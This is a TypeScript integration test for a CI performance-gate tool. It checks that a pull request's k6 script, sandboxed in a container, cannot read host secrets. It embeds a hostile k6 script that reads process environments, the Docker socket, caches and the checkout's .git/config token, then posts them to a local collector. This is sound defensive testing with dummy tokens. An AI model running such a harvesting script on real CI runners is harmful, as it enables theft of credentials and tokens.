// k6 in its sandbox against a hostile script, in a real container: what the pull request's k6
// script can read of the host (the action's environment through /proc, the Docker socket, the jar
// cache, the other side's dependency cache, the checkout's .git with the job's token), and that
// the pid given to telemetry is k6's on the host. Only a real engine shows what a container's
// mounts and namespaces hide; the fake lab cannot.
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startCollector, type Collector } from '../support/collector.js';
import { buildCacheDir } from '../../src/build/sandbox-build.js';
import { ResourceScope } from '../../src/env/scope.js';
import { checkK6Script, resolveK6, runK6Window } from '../../src/load/k6.js';
import {
  perfGateContainers,
  requireDocker,
  requireK6,
  testImages,
} from '../support/environment.js';

const SECRETS: Record<string, string> = {
  'INPUT_GITHUB-TOKEN': 'ghs_k6SandboxInputToken00000000000000',
  ACTIONS_RUNTIME_TOKEN: 'k6-sandbox-actions-runtime-token-1111',
};
/** What actions/checkout leaves in .git/config with persist-credentials (the default). */
const CHECKOUT_TOKEN = 'ghs_k6SandboxCheckoutToken0000000000000';

/** Reads everything an attacker would at init, and posts what it could read to the collector. */
const HOSTILE_SCRIPT = `
import http from 'k6/http';
const tryRead = (path) => { try { return open(path); } catch (e) { return 'ERR ' + String(e); } };
const seen = {
  env: __ENV,
  pid1: tryRead('/proc/1/environ'),
  self: tryRead('/proc/self/environ'),
  holder: tryRead('/proc/' + __ENV.HOLDER_PID + '/environ'),
  socket: tryRead('/var/run/docker.sock'),
  jarCache: tryRead(__ENV.JAR_MARKER),
  otherSide: tryRead(__ENV.BASE_MARKER),
  gitConfig: tryRead(__ENV.CHECKOUT + '/.git/config'),
  sibling: tryRead(__ENV.CHECKOUT + '/lib/data.json'),
};
export default function () {
  http.post(__ENV.BASE_URL + '/collect', JSON.stringify(seen));
}
`;

let checkout: string;
let holder: ChildProcess;
let jarMarker: string;
let baseMarker: string;
let collector: Collector;
let baseUrl: string;
const saved: Record<string, string | undefined> = {};

let jarCache: string;

beforeAll(async () => {
  await requireDocker();
  // /proc/<pid>/environ shows a process's environment as it started, as the action's runner has.
  holder = spawn('sleep', ['300'], { env: { ...process.env, ...SECRETS }, stdio: 'ignore' });
  for (const [name, value] of Object.entries(SECRETS)) {
    saved[name] = process.env[name];
    process.env[name] = value;
  }
  checkout = mkdtempSync(join(tmpdir(), 'perf-gate-k6-sandbox-'));
  chmodSync(checkout, 0o755); // as a clone is: k6's user (uid 1000 when the tests run as root) reads it
  execFileSync('git', ['init', '-q'], { cwd: checkout });
  execFileSync('git', [
    'config',
    '--file',
    join(checkout, '.git', 'config'),
    'http.https://github.com/.extraheader',
    `AUTHORIZATION: basic ${CHECKOUT_TOKEN}`,
  ]);
  mkdirSync(join(checkout, 'k6'));
  mkdirSync(join(checkout, 'lib'));
  writeFileSync(join(checkout, 'k6', 'hostile.js'), HOSTILE_SCRIPT);
  writeFileSync(join(checkout, 'lib', 'data.json'), '{"sibling":"readable"}');
  jarCache = mkdtempSync(join(tmpdir(), 'perf-gate-jar-cache-'));
  jarMarker = join(jarCache, 'base-commit-marker.jar');
  writeFileSync(jarMarker, 'base-jar-bytes');
  mkdirSync(join(buildCacheDir('base'), 'home', '.m2'), { recursive: true });
  baseMarker = join(buildCacheDir('base'), 'home', '.m2', 'base-side-marker');
  writeFileSync(baseMarker, 'base-side-bytes');
  collector = await startCollector();
  baseUrl = collector.url;
});

afterAll(async () => {
  holder?.kill('SIGKILL');
  for (const [name, value] of Object.entries(saved)) {
    if (value === undefined) delete process.env[name];
    else process.env[name] = value;
  }
  await collector.close();
  rmSync(checkout, { recursive: true, force: true });
  rmSync(jarCache, { recursive: true, force: true });
});

function windowOptions(k6Image: string | undefined, scope: ResourceScope) {
  return {
    k6: requireK6(),
    ...(k6Image === undefined ? {} : { k6Image }),
    script: join(checkout, 'k6', 'hostile.js'),
    baseUrl,
    targetRate: 5,
    durationMs: 1_000,
    preAllocatedVus: 2,
    maxVus: 2,
    executor: 'gate' as const,
    endpoints: [],
    env: {
      HOLDER_PID: String(holder.pid),
      JAR_MARKER: jarMarker,
      BASE_MARKER: baseMarker,
      CHECKOUT: checkout,
    },
    scope,
    label: 'hostile window',
  };
}

/** Runs the hostile script for a second; what it posted. */
async function hostileRun(k6Image: string | undefined): Promise<Record<string, string>> {
  collector.received.length = 0;
  await using scope = new ResourceScope();
  let pid: number | undefined;
  let comm: string | undefined;
  const run = await runK6Window({
    ...windowOptions(k6Image, scope),
    onStart: (k6) => {
      pid = k6.pid;
      // Telemetry samples k6's CPU through /proc on the host: the pid must be k6's there. runc
      // hands its process to k6 by exec (same pid), so for a moment its name may still read
      // runc's: read it again every 20 ms, for up to 2 s, until it names k6.
      let reads = 0;
      const read = (): void => {
        try {
          comm = readFileSync(`/proc/${pid}/comm`, 'utf8').trim();
        } catch {
          return; // the process is gone
        }
        if (comm !== 'k6' && ++reads < 100) setTimeout(read, 20);
      };
      read();
    },
  });
  expect(run.exitCode).toBe(0);
  expect(pid).toBeGreaterThan(1);
  expect(comm).toBe('k6');
  expect(collector.received.length).toBeGreaterThan(0);
  return JSON.parse(collector.received[0]!) as Record<string, string>;
}

describe('k6 in its sandbox', () => {
  it('a hostile script finds no secret, no socket, no jar cache, no other side and no .git', async () => {
    expect(await resolveK6({ image: testImages.k6 })).toMatch(/^k6 v1\.\d+\.\d+/);
    await using scope = new ResourceScope();
    await checkK6Script(windowOptions(testImages.k6, scope));
    const seen = await hostileRun(testImages.k6);
    const text = JSON.stringify(seen);
    for (const secret of [...Object.values(SECRETS), CHECKOUT_TOKEN]) {
      expect(text).not.toContain(secret);
    }
    expect(text).not.toMatch(/INPUT_|ACTIONS_/);
    // The container's own environ (/proc/self, /proc/1: k6 in its PID namespace) holds the image's
    // PATH when the read succeeds, which it does on some runs: that is not the runner's.
    expect(text).not.toContain(`PATH=${process.env.PATH}`);
    expect(seen.holder).toMatch(/^ERR .*no such file or directory/);
    expect(seen.socket).toMatch(/^ERR .*no such file or directory/);
    expect(seen.jarCache).toMatch(/^ERR .*no such file or directory/);
    // Under /root when perf-gate runs as root: the image's own /root, which uid 1000 cannot enter.
    expect(seen.otherSide).toMatch(/^ERR .*(no such file or directory|permission denied)/);
    expect(seen.gitConfig).toMatch(/^ERR .*no such file or directory/);
    // The script's own tree stays readable: a helper module or data file next to it works.
    expect(seen.sibling).toContain('readable');
    expect(await perfGateContainers(process.pid)).toEqual([]);
  });

  it('the same script on the host (--sandbox off) reads the token: the checks above can fail', async () => {
    const seen = await hostileRun(undefined);
    expect(seen.gitConfig).toContain(CHECKOUT_TOKEN);
    expect(seen.jarCache).toBe('base-jar-bytes');
  });
});
